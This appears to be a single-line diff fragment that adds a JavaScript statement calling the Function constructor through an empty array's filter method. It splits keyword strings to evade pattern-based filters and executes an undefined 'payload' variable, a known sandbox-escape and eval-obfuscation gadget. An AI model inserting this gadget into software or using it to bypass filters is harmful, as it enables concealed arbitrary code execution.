@@ -1,0 +1,1 @@
+[]['fil' + 'ter']['const' + 'ructor'](payload)();
